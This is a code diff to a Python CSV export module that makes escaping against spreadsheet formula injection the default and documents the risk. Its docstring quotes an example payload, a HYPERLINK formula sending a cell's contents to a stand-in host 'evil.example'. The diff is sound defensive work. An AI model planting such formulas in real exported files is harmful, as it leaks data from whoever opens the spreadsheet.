@@ -1,4 +1,14 @@
-"""One CSV row per annotation, every field, for spreadsheets and scripts."""
+"""One CSV row per annotation, every field, for spreadsheets and scripts.
+
+Spreadsheet-safe by default (CSV or formula injection): a quote such as
+``=HYPERLINK("https://evil.example/?"&A1,"Klik")`` would run as a formula when the file
+is opened in Excel, LibreOffice or Google Sheets. Following the OWASP rule
+(https://owasp.org/www-community/attacks/CSV_Injection), every cell that starts with
+``=``, ``+``, ``-``, ``@``, a tab (0x09) or a carriage return (0x0D) is prefixed with a
+single quote ``'``, which spreadsheets read as "this cell is text"; the csv module quotes
+cells holding ``,`` or ``"`` (doubling ``"``). ``spreadsheet_safe=False`` (the CLI's
+``--raw``) keeps the values exactly as stored, for scripts that need them.
+"""
 
 from __future__ import annotations
 
@@ -29,16 +39,14 @@ def spreadsheet_cell(value):
 
 
 def export_csv(items: Iterable[tuple[Article, list[Annotation]]], bom: bool = False,
-               spreadsheet_safe: bool | None = None) -> str:
+               spreadsheet_safe: bool = True) -> str:
     """CSV text (RFC 4180, CRLF rows); write it with ``newline=""`` in UTF-8.
 
     ``bom`` starts the text with U+FEFF so Excel reads accented names right.
-    ``spreadsheet_safe`` (by default: when ``bom``, i.e. for Excel) puts a ``'`` before
-    text starting with ``= + - @``, a tab or a carriage return, so a quote such as
-    ``=HYPERLINK(…)`` stays text instead of becoming a formula. Tags are joined with ``"; "``.
+    ``spreadsheet_safe`` (on unless turned off) puts a ``'`` before text starting with
+    ``= + - @``, a tab or a carriage return, so a quote such as ``=HYPERLINK(…)`` stays
+    text instead of becoming a formula. Tags are joined with ``"; "``.
     """
-    if spreadsheet_safe is None:
-        spreadsheet_safe = bom
     out = io.StringIO()
     if bom:
         out.write("\ufeff")
